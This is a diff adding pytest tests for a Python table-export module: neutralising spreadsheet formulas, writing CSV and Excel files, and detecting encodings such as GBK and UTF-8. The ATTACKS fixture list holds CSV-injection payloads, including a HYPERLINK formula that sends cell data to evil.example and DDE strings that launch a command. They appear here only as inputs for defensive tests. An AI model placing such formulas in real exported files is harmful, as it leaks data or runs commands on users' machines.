@@ -603,3 +603,117 @@ def test_no_row_lost_under_random_cell_damage(tmp_path):
     mt = load(write(tmp_path, "\n".join(lines) + "\n"))
     assert len(mt.data) + mt.quarantine["row"].nunique() == 200
     assert 0 < mt.quarantine["row"].nunique() <= 60
+
+
+# ---------------------------------------------------------------- safe export
+
+ATTACKS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def _export_table() -> pd.DataFrame:
+    return pd.DataFrame(
+        {
+            "note": ATTACKS + ["plain text"],
+            "amount": [-12.5, 3.0, -0.01, 4.0, 5.0, 6.0, -7.25],
+            "qty": [-1, 2, 3, 4, 5, 6, 7],
+        }
+    )
+
+
+def test_neutralize_formulas_quotes_text_and_keeps_numbers():
+    df = _export_table()
+    out = io.neutralize_formulas(df)
+    assert out["note"].tolist() == ["'" + a for a in ATTACKS] + ["plain text"]
+    assert out["amount"].tolist() == df["amount"].tolist()  # negative numbers stay numbers
+    assert out["amount"].dtype == "float64" and out["qty"].dtype == "int64"
+    assert df["note"].iloc[0].startswith("=")  # the input is not modified
+    assert io.neutralize_formulas(out).equals(out)  # idempotent
+    header = io.neutralize_formulas(pd.DataFrame({"=cmd": [1]}))
+    assert list(header.columns) == ["'=cmd"]
+
+
+def test_write_csv_round_trip(tmp_path):
+    path = io.write_csv(_export_table(), tmp_path / "out" / "table.csv")
+    back = io.read_table(path)
+    assert back["note"].tolist() == ["'" + a for a in ATTACKS] + ["plain text"]
+    assert not back["note"].str.match(r"^[=+\-@\t\r]").any()
+    assert pd.to_numeric(back["amount"]).tolist() == [-12.5, 3.0, -0.01, 4.0, 5.0, 6.0, -7.25]
+    assert pd.to_numeric(back["qty"]).tolist()[0] == -1
+    assert io.detect_encoding(path) == "utf-8-sig"  # Excel shows Chinese text with the BOM
+
+
+def test_write_excel_stores_text_not_formulas(tmp_path):
+    import openpyxl
+
+    df = _export_table().assign(when=pd.Timestamp("2024-03-05 14:22", tz="Asia/Shanghai"))
+    path = io.write_excel(df, tmp_path / "table.xlsx")
+    sheet = openpyxl.load_workbook(path).active
+    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
+    assert all(c.data_type == "s" for c in cells)  # text, never "f" (formula)
+    assert cells[0].value == "'" + ATTACKS[0]
+    amounts = [row[1].value for row in sheet.iter_rows(min_row=2)]
+    assert amounts[0] == -12.5 and isinstance(amounts[0], float)
+    back = io.read_table(path)
+    assert back["note"].tolist()[:3] == ["'" + a for a in ATTACKS[:3]]
+    assert back["when"].iloc[0] == "2024-03-05T14:22:00+08:00"
+
+
+def test_write_excel_names_an_illegal_character(tmp_path):
+    df = pd.DataFrame({"note": ["ok", "bell\x07"]}, index=[10, 11])
+    with pytest.raises(io.ExportError, match=r"column 'note', row 11: .*control character"):
+        io.write_excel(df, tmp_path / "bad.xlsx")
+
+
+def test_write_csv_names_an_unencodable_value(tmp_path):
+    with pytest.raises(io.ExportError, match=r"bad\.csv: a value cannot be written in ascii"):
+        io.write_csv(pd.DataFrame({"name": ["张伟"]}), tmp_path / "bad.csv", encoding="ascii")
+
+
+# ------------------------------------------------------------ detect_encoding
+
+
+@pytest.mark.parametrize(
+    ("data", "expected"),
+    [
+        ("客户,地区\n张伟,华北\n李娜,华东\n".encode("gbk"), "gb18030"),
+        ("Customer,Region\nAnn,north\n".encode("utf-8-sig"), "utf-8-sig"),
+        ("客户,地区\n张伟,华北\n".encode(), "utf-8"),
+        ("Customer,Region\nAnn,north\n".encode("utf-16"), "utf-16"),
+    ],
+)
+def test_detect_encoding_of_bytes_and_files(tmp_path, data, expected):
+    assert io.detect_encoding(data) == expected
+    path = write(tmp_path, data, "export.csv")
+    assert io.detect_encoding(path) == expected
+    assert io.detect_encoding(str(path)) == expected
+
+
+def test_detect_encoding_of_the_world_exports(world_exports):
+    _, paths, _ = world_exports
+    assert io.detect_encoding(paths["customers_export"]) == "gb18030"  # written as GBK
+    assert io.detect_encoding(paths["orders_export"]) == "utf-8-sig"
+
+
+@pytest.mark.parametrize(
+    ("data", "pattern"),
+    [
+        (b"", "empty"),
+        (b"   \n", "empty"),
+        (b"PK\x03\x04\x00\x00binary", "NUL bytes: binary data"),
+    ],
+)
+def test_detect_encoding_errors(data, pattern):
+    with pytest.raises(io.ReadError, match=pattern):
+        io.detect_encoding(data)
+
+
+def test_detect_encoding_missing_file(tmp_path):
+    with pytest.raises(io.ReadError, match=r"nope\.csv: file not found"):
+        io.detect_encoding(tmp_path / "nope.csv")
